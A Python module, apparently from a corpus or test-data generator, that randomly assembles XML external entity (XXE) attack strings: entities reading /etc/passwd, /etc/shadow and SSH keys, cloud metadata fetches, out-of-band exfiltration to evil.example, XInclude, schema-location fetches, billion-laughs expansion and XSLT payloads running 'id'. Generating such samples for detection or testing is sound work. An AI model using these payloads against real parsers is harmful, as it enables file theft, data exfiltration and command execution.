"""XML injection: documents whose parsing reads files or fetches URLs (XXE).

External general entities (SYSTEM and PUBLIC), parameter entities and out-of-band
exfiltration through an external DTD, an external DTD subset, XInclude, schema locations
(`xsi:schemaLocation`, `noNamespaceSchemaLocation`) that validating parsers fetch, and
entity expansion (a small billion laughs). An attack is a prolog (declaration, DOCTYPE) and a
root element, so that a SOAP placement can put the root inside its envelope's Body."""

from __future__ import annotations

import random

from owncorpus.grammar import DOCUMENT, Attack, one

CLASS = "xml"
PARAMS = ("xml", "data", "SAMLResponse", "document", "payload", "feed", "request", "config", "body", "import")

RESOURCES = ("file:///etc/passwd", "file:///etc/shadow", "file:///c:/windows/win.ini", "http://evil.example/x",
             "php://filter/convert.base64-encode/resource=index.php", "expect://id", "file:///proc/self/environ",
             "http://169.254.169.254/latest/meta-data/", "netdoc:///etc/passwd", "jar:http://evil.example/x.jar!/x",
             "file:///", "ftp://evil.example/x", "https://evil.example/x.dtd", "file:///home/app/.ssh/id_rsa")
ROOTS = ("foo", "root", "data", "user", "request", "order", "search", "r", "doc", "product")
ENTITY_NAMES = ("xxe", "x", "e", "file", "ent", "a", "payload")
DECLS = ("", '<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-8"?>', "<?xml version='1.0' standalone='no'?>")


def _external_entity(rng: random.Random) -> tuple[str, str]:
    root, name = one(rng, ROOTS), one(rng, ENTITY_NAMES)
    uri = one(rng, RESOURCES)
    q = one(rng, ('"', "'"))
    ident = f"SYSTEM {q}{uri}{q}" if rng.random() < 0.8 else f'PUBLIC "-//X//Y" {q}{uri}{q}'
    sp = one(rng, (" ", "\n", "  "))
    prolog = f"{one(rng, DECLS)}<!DOCTYPE{sp}{root}{sp}[<!ENTITY{sp}{name}{sp}{ident}>]>"
    child = one(rng, ("", "name", "id", "q"))
    body = f"<{child}>&{name};</{child}>" if child else f"&{name};"
    return prolog, f"<{root}>{body}</{root}>"


def _parameter_entity(rng: random.Random) -> tuple[str, str]:
    root = one(rng, ROOTS)
    dtd = one(rng, ("http://evil.example/evil.dtd", "https://evil.example/x.dtd", "ftp://evil.example/x.dtd",
                    "file:///usr/share/yelp/dtd/docbookx.dtd"))
    form = rng.randrange(3)
    if form == 0:
        subset = f'<!ENTITY % p SYSTEM "{dtd}">%p;'
    elif form == 1:
        subset = (f'<!ENTITY % file SYSTEM "{one(rng, RESOURCES[:3])}"><!ENTITY % eval "<!ENTITY &#x25; exfil '
                  f"SYSTEM 'http://evil.example/?x=%file;'>\">%eval;%exfil;")
    else:
        subset = f'<!ENTITY % d SYSTEM "{dtd}">%d;%param1;'
    return f"{one(rng, DECLS)}<!DOCTYPE {root} [{subset}]>", f"<{root}>x</{root}>"


def _external_dtd(rng: random.Random) -> tuple[str, str]:
    root = one(rng, ROOTS)
    dtd = one(rng, ("http://evil.example/x.dtd", "file:///etc/passwd", "https://evil.example/a.dtd"))
    return f'{one(rng, DECLS)}<!DOCTYPE {root} SYSTEM "{dtd}">', f"<{root}>{one(rng, ('x', '&e;', ''))}</{root}>"


def _xinclude(rng: random.Random) -> tuple[str, str]:
    root = one(rng, ROOTS)
    prefix = one(rng, ("xi", "x", "inc"))
    parse = one(rng, (' parse="text"', "", " parse='text'"))
    href = one(rng, RESOURCES)
    return one(rng, DECLS), (f'<{root} xmlns:{prefix}="http://www.w3.org/2001/XInclude"><{prefix}:include{parse} '
                             f'href="{href}"/></{root}>')


def _schema_location(rng: random.Random) -> tuple[str, str]:
    root = one(rng, ROOTS)
    xsd = one(rng, ("http://evil.example/s.xsd", "file:///etc/passwd", "https://evil.example/schema.xsd",
                    "http://169.254.169.254/latest/meta-data/"))
    if rng.random() < 0.5:
        attr = f'xsi:schemaLocation="urn:x {xsd}"'
    else:
        attr = f'xsi:noNamespaceSchemaLocation="{xsd}"'
    return one(rng, DECLS), f'<{root} xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" {attr}>x</{root}>'


def _expansion(rng: random.Random) -> tuple[str, str]:
    root = one(rng, ROOTS)
    levels = rng.randrange(4, 9)
    ents = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, levels))
    return f"{one(rng, DECLS)}<!DOCTYPE {root} [{ents}]>", f"<{root}>&l{levels - 1};</{root}>"


def _xslt(rng: random.Random) -> tuple[str, str]:
    fn = one(rng, ("document('file:///etc/passwd')", "unparsed-text('/etc/passwd')",
                   "php:function('system','id')", "rt:exec(rt:getRuntime(),'id')"))
    return one(rng, DECLS), ('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" '
                             'xmlns:php="http://php.net/xsl" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime">'
                             f'<xsl:template match="/"><xsl:value-of select="{fn}"/></xsl:template></xsl:stylesheet>')


FORMS = ((_external_entity, 45), (_parameter_entity, 15), (_external_dtd, 8), (_xinclude, 12),
         (_schema_location, 10), (_expansion, 6), (_xslt, 4))


def attacks(rng: random.Random, n: int) -> list[Attack]:
    seen: dict[str, str] = {}
    tries = 0
    total = sum(w for _, w in FORMS)
    while len(seen) < n and tries < n * 50:
        tries += 1
        pick = rng.randrange(total)
        for make, weight in FORMS:
            if pick < weight:
                break
            pick -= weight
        prolog, element = make(rng)
        seen.setdefault(prolog + element, prolog)
    return [Attack(CLASS, text, PARAMS, DOCUMENT, prolog=prolog) for text, prolog in seen.items()]
